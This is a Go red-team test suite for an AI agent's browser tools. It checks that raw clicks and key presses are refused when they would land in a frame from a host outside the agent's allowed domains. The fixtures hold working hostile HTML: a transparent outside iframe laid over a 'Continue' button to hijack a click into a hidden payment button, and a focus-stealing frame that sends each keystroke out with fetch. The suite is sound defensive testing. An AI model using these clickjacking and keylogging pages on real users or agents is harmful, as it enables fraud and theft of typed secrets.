package main

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// browser_click_xy and browser_press sent trusted input with no check of
// where it lands, though browser_click and browser_type refuse input that
// would land in a frame of a host outside the agent's domains
// (TestRedTeamClickLandsInAnOutsideFrame,
// TestRedTeamTypingLandsInAnOutsideFrame). Now both ask the browser
// (internal/hit): a point on a frame the snapshot does not read, or a
// focus in one, is refused.
//
// click_xy: a hostile page of an allowed host draws a "Continue" button
// (a picture: the screenshot shows it) and lays a transparent frame of an
// outside host over it. The agent clicks where the screenshot shows
// Continue; the press goes into the outside frame.
//
// press: the page's input takes the agent's click, then the page moves the
// focus to an outside frame; the agent's browser_press keys (an Enter, or
// text typed key by key) go into that frame.
func rawInputSites(t *testing.T) (outside, hostile *recorder) {
	outside = newRecorder(t, "127.0.0.2", func(path string) string {
		if path == "/note" {
			return `<!doctype html><title>note</title><input id="i"><script>addEventListener('focus', () => i.focus()); ` +
				`i.addEventListener('keydown', e => fetch('/key-' + encodeURIComponent(e.key)))</script>`
		}
		return `<!doctype html><title>pay</title><body style="margin:0"><button style="width:100%;height:100vh;opacity:0" ` +
			`onmousedown="fetch('/down')" onclick="fetch('/clicked')">Pay 1000 EUR</button>`
	})
	hostile = newRecorder(t, "127.0.0.1", func(path string) string {
		switch path {
		case "/xy":
			return fmt.Sprintf(`<!doctype html><title>shop</title><body style="margin:0">`+
				`<div style="position:absolute;left:0;top:0;width:300px;height:120px;background:#06c;color:#fff;font:40px sans-serif;display:flex;align-items:center;justify-content:center">Continue</div>`+
				`<iframe src="%s/pay" style="position:absolute;left:0;top:0;width:300px;height:120px;border:0;opacity:0"></iframe>`, outside.URL)
		case "/press":
			return fmt.Sprintf(`<!doctype html><title>shop</title><label>Your note <input id="n"></label>`+
				`<iframe id="f" src="%s/note" style="width:200px;height:40px;border:0"></iframe>`+
				`<script>n.addEventListener('focus', () => setTimeout(() => f.focus(), 100))</script>`, outside.URL)
		}
		return ""
	})
	return outside, hostile
}

func TestRedTeamClickXYLandsInAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside, hostile := rawInputSites(t)
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks")
	c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + "/xy"})
	time.Sleep(300 * time.Millisecond)
	res := resultText(c.call(t, "browser_click_xy", map[string]any{"x": 150, "y": 60}))
	time.Sleep(500 * time.Millisecond)
	t.Logf("click_xy: %s; the outside server saw %v", res, outside.paths())
	if !outside.hit("/pay") {
		t.Errorf("the outside frame never loaded: click_xy shows nothing")
	} else if outside.hit("/down") || outside.hit("/clicked") {
		t.Errorf("browser_click_xy pressed in a frame of %s, outside the agent's domains: %v (the result said %q)", outside.URL, outside.paths(), res)
	}
}

func TestRedTeamPressLandsInAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside, hostile := rawInputSites(t)
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks")
	c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + "/press"})
	time.Sleep(300 * time.Millisecond)
	snap := mustSnap(t, c)
	res := resultText(c.call(t, "browser_click", map[string]any{"index": index(t, snap, `textbox "Your note"`)}))
	t.Logf("click the note: %s", res)
	time.Sleep(300 * time.Millisecond)
	res = resultText(c.call(t, "browser_press", map[string]any{"keys": "s e c r e t Enter"}))
	time.Sleep(500 * time.Millisecond)
	t.Logf("press: %s; the outside server saw %v", res, outside.paths())
	if !outside.hit("/note") {
		t.Errorf("the outside note frame never loaded: press shows nothing")
	}
	var keys []string
	for _, p := range outside.paths() {
		if strings.HasPrefix(p, "/key-") {
			keys = append(keys, p)
		}
	}
	if len(keys) > 0 {
		t.Errorf("browser_press's keys went into a frame of %s, outside the agent's domains: %v (the result said %q)", outside.URL, keys, res)
	}
}
